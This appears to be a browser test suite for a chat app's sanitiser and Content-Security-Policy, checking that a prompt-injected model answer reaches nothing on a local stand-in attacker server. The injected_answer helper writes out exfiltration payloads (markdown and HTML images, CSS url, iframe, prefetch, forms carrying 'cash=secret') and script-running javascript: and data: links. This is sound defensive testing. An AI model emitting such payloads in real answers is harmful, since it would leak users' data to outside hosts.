"""A real browser (Debian's Chromium) shows an injected answer and fetches nothing from the outside host.

The "attacker" is a web server on 127.0.0.1 on its own port, counting every request it gets. A scripted model
puts into its thought and its final answer what a prompt-injected model would: a markdown image, `<img>`,
`srcset`, CSS `url()`, a video poster, an SVG image, an iframe, a prefetch link and a form. The external images
must show as plain links and the server must see zero requests; the Content-Security-Policy must block an image
even when one reaches the page another way; and the app's own page, a streamed answer and a plotly chart must
work under that policy with no violation.
"""

from __future__ import annotations

import time

import pytest
import requests

from safe_render.csp import POLICY
from tests.browser import browser_page, send_message
from tests.live_app import running_app
from tests.scripted_model import ScriptedModel, code, final
from tests.servers.web import WebServer

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore::Warning")]

RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
    e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""


def injected_answer(a: str) -> str:
    return (f"Your cash is shown below.\n\n![account chart]({a}/md.png?cash=secret)\n\n"
            f'Logo: <img src="{a}/img.png?positions=AAPL" alt="logo"> and '
            f'<img srcset="{a}/srcset.png 2x">\n\n'
            f'<picture><source srcset="{a}/source.png"><img src="{a}/picture.png"></picture>\n\n'
            f'<p style="background:url({a}/css.png)">styled</p>\n\n'
            f'<video poster="{a}/poster.png" src="{a}/video.mp4"></video>\n\n'
            f'<svg><image href="{a}/svg.png"/></svg>\n\n'
            f'<iframe src="{a}/frame"></iframe>\n\n'
            f'<link rel="prefetch" href="{a}/prefetch">\n\n'
            f'<form action="{a}/form" method="get"><input name="cash" value="secret">'
            f'<button formaction="{a}/formaction">Continue</button></form>\n\n'
            "[Open your statement](javascript:fetch('/x?'+localStorage.length)) · [ref][js] · "
            "[entity](jav&#x61;script:alert(1)) · <a href=\"javascript:alert(2)\">html</a> · "
            "[page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n"
            "[js]: javascript:alert(3)\n\n"
            f"Done. [Read more]({a}/only-when-clicked)")


def injected_team(a: str):
    def team():
        thought = f"I will look. ![progress]({a}/thought.png) <img src='{a}/thought-img.png'>"
        return {"manager": ScriptedModel([code('print("ok")', thought=thought), final(injected_answer(a))]),
                "web_agent": ScriptedModel(), "trader": ScriptedModel()}
    return team


def test_an_injected_answer_fetches_nothing_from_the_outside_host(tmp_path):
    with WebServer() as attacker, running_app(tmp_path, injected_team(attacker.url)) as (url, _stack, _ui), \
            browser_page(url, RECORD_VIOLATIONS) as page:
        send_message(page, "What is my balance?")
        chatbot = page.locator("#chatbot")
        chatbot.get_by_text("Done.").first.wait_for()
        for step in page.get_by_text("Manager · step 1").all():  # open the step, so its thought is shown too
            step.click()
        time.sleep(1.5)  # time for any late fetch (lazy images, prefetch) to arrive
        page.screenshot(path=str(tmp_path / "injected.png"), full_page=True)

        assert attacker.requests == []  # zero requests reached the outside host
        # The external images are plain links (to click, or not), named by their alt text and URL.
        for path in ("/md.png?cash=secret", "/img.png?positions=AAPL", "/srcset.png", "/source.png",
                     "/picture.png", "/poster.png", "/svg.png", "/frame"):
            link = chatbot.locator(f'a[href="{attacker.url}{path}"]')
            assert link.count() >= 1, path
        assert "account chart" in chatbot.locator(f'a[href="{attacker.url}/md.png?cash=secret"]').first.inner_text()
        # Nothing that would fetch or submit is in the chat: no outside image, media, frame or form.
        assert chatbot.locator(f'img[src^="{attacker.url}"], img[srcset], source, video, iframe, svg image, '
                               "form, input, button[formaction], link").count() == 0
        assert chatbot.locator("[style*='url(']").count() == 0
        # Links whose click would run code in this page (and could read the key it keeps) are not links at all.
        assert chatbot.locator('a[href^="javascript:" i], a[href^="data:" i], a[href^="vbscript:" i], '
                               'a[href*="script:" i]').count() == 0
        assert chatbot.get_by_text("Open your statement").count() >= 1  # the text stays
        # The answer's own text is still there; the ordinary link stays a link.
        assert chatbot.locator(f'a[href="{attacker.url}/only-when-clicked"]').count() == 1
        assert page.evaluate("window.__csp") == []  # the sanitiser, not the policy, stopped them


def test_the_policy_blocks_an_outside_image_that_reaches_the_page(tmp_path):
    with WebServer() as attacker, running_app(tmp_path, None) as (url, _stack, _ui), \
            browser_page(url, RECORD_VIOLATIONS) as page:
        response = requests.get(url, timeout=10)
        assert response.headers["content-security-policy"] == POLICY
        # Put an image straight into the DOM (as a renderer bug would): the browser refuses to fetch it.
        page.evaluate(f"""() => {{
            const img = document.createElement('img'); img.src = '{attacker.url}/past-the-sanitiser.png';
            document.body.appendChild(img);
            fetch('{attacker.url}/fetch').catch(() => null);
            const form = document.createElement('form'); form.action = '{attacker.url}/form'; form.method = 'get';
            document.body.appendChild(form); form.submit();
        }}""")
        page.wait_for_function("window.__csp.length >= 2")
        time.sleep(1.0)
        assert attacker.requests == []
        violations = " ".join(page.evaluate("window.__csp"))
        assert "img-src" in violations and "connect-src" in violations
        assert page.url.startswith(url)  # the form did not navigate away


def chart_team():
    return {"manager": ScriptedModel([AssertionError("a slash command reached the model")]),
            "web_agent": ScriptedModel(), "trader": ScriptedModel()}


def streaming_team():
    answer = "**AAPL** closed at $244.60.\n\n| symbol | close |\n|---|---|\n| AAPL | 244.60 |\n\n```python\nx = 1\n```"
    return {"manager": ScriptedModel([code('print(stock_quote(symbol="AAPL"))'), final(answer)]),
            "web_agent": ScriptedModel(), "trader": ScriptedModel()}


def test_the_page_a_streamed_answer_and_a_chart_work_under_the_policy(tmp_path):
    with running_app(tmp_path, streaming_team) as (url, _stack, _ui), browser_page(url, RECORD_VIOLATIONS) as page:
        send_message(page, "/chart AAPL 6mo sma50")
        page.wait_for_function(  # generous: the machine may be busy with other suites
            "() => document.querySelectorAll('#chatbot .js-plotly-plot .trace.boxes path').length > 0",
            timeout=120_000)
        send_message(page, "How did AAPL close?")
        chatbot = page.locator("#chatbot")
        chatbot.locator("table td", has_text="244.60").first.wait_for()
        assert chatbot.locator("strong", has_text="AAPL").count() >= 1
        assert chatbot.locator("pre code", has_text="x = 1").count() >= 1  # Gradio's own code block, kept
        page.set_viewport_size({"width": 1366, "height": 768})
        page.screenshot(path=str(tmp_path / "normal.png"), full_page=False)
        assert page.evaluate("window.__csp") == []
